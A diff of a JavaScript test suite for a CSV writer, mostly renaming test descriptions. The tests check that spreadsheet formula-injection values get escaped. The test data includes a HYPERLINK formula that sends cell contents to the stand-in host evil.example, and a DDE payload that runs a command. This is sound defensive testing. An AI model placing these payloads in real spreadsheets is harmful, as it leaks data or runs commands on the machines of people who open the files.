@@ -29,32 +29,32 @@ describe('CSV tables', () => {
     '＠x',
     '=HYPERLINK("https://evil.example?"&A1,"x")',
     "=cmd|' /C calc'!A0",
-  ])('makes %j inert', evil => {
+  ])('escape %j', evil => {
     const [row] = parse(table.rows([{ name: evil, cost: 1 }]));
     expect(row).toEqual([`'${evil}`, '1']);
   });
 
-  it('writes negative figures as numbers', () => {
+  it('write negative numbers as numbers', () => {
     expect(table.rows([{ name: 'a', cost: '-0.000000000001' }])).toBe('a,-0.000000000001\r\n');
     expect(table.rows([{ name: 'a', cost: -5 }])).toBe('a,-5\r\n');
   });
 
-  it('guards a numeric column against text that is no number', () => {
+  it('escape a text in a numeric column', () => {
     expect(table.rows([{ name: 'a', cost: '-1+cmd()' }])).toBe("a,'-1+cmd()\r\n");
   });
 
-  it('writes the header line', () => expect(table.header()).toBe('name,cost\r\n'));
+  it('write the header line', () => expect(table.header()).toBe('name,cost\r\n'));
 
-  it('writes nothing for no rows and an empty cell for null', () => {
+  it('write nothing for no rows and an empty cell for null', () => {
     expect(table.rows([])).toBe('');
     expect(table.rows([{ name: null, cost: 0 }])).toBe(',0\r\n');
   });
 
-  it('quotes what other locales would split', () => {
+  it('quote cells with separators of other locales', () => {
     expect(table.rows([{ name: 'a;=1', cost: 0 }])).toBe('"a;=1",0\r\n');
   });
 
-  it('gives back every name that a reader puts through a CSV parser', () => {
+  it('are read back unchanged by a CSV parser, for any name', () => {
     fc.assert(
       fc.property(fc.array(fc.string({ unit: 'binary' })), names => {
         const text = table.header() + table.rows(names.map(name => ({ name, cost: 7 })));
